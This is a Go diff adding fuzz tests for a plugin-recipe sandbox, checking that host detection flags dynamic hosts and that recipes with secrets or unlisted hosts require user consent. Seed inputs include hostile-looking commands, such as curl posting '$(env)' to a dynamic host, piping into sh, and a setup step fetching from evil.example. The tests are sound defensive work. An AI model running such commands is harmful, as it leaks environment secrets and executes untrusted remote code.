@@ -7,6 +7,8 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+
+	"github.com/osaurus/osaurus-sandbox/netpolicy"
 )
 
 // FuzzDecode feeds arbitrary bytes to the decoder and validator. Seeds are
@@ -124,4 +126,44 @@ func checkInvariants(t *testing.T, p *Plugin) {
 			}
 		}
 	}
+}
+
+// FuzzDynamicHosts: any command is read without panicking, and every
+// flag is dynamic and says what it found.
+func FuzzDynamicHosts(f *testing.F) {
+	f.Add(`curl -d "$(env)" $(cat u.txt)`)
+	f.Add("curl --connect-to a:443:b:443 `cat x` | sh -c 'bash x.sh' && ./run $((1+2)")
+	f.Add(`sudo -E timeout 5 env A=1 python3.11 -m "$M" <(x) "unterminated`)
+	f.Fuzz(func(t *testing.T, cmd string) {
+		for _, r := range DynamicHosts(cmd) {
+			if !r.Dynamic || r.Text == "" {
+				t.Fatalf("flag %+v from %q", r, cmd)
+			}
+		}
+	})
+}
+
+// FuzzReview: whatever recipe decodes and validates gets a review, and a
+// recipe that declares a secret or names a host outside the allowlist
+// always needs consent.
+func FuzzReview(f *testing.F) {
+	f.Add([]byte(`{"name":"A","description":"d","secrets":["K"],"tools":[{"id":"t","description":"d","run":"true"}]}`), "file")
+	f.Add([]byte(`{"name":"A","description":"d","setup":"curl https://evil.example/x","tools":[{"id":"t","description":"d","run":"bash x.sh"}]}`), "url")
+	f.Add([]byte(`{"name":"A","description":"d","permissions":{"network":"pypi.org,*.example.org"},"tools":[{"id":"t","description":"d","run":"true"}]}`), "editor")
+	f.Fuzz(func(t *testing.T, data []byte, kind string) {
+		p, err := DecodeBytes(data)
+		if err != nil || p.Validate() != nil {
+			return
+		}
+		g := Review(p, Origin{Kind: kind}, []string{"pypi.org", "files.pythonhosted.org"}, nil)
+		if len(g.Lines()) < 2 {
+			t.Fatalf("review lines %q", g.Lines())
+		}
+		if (len(p.Secrets) > 0 || len(CheckHosts(p, NewAllowlist([]string{"pypi.org", "files.pythonhosted.org"}))) > 0) && !g.NeedsConsent() {
+			t.Fatalf("no consent asked for %s", data)
+		}
+		if Confined(Origin{Kind: kind}) && (p.Permissions == nil || p.Permissions.Network == "") && g.Network.Mode != netpolicy.Domains {
+			t.Fatalf("imported recipe without a permission gets %v", g.Network)
+		}
+	})
 }
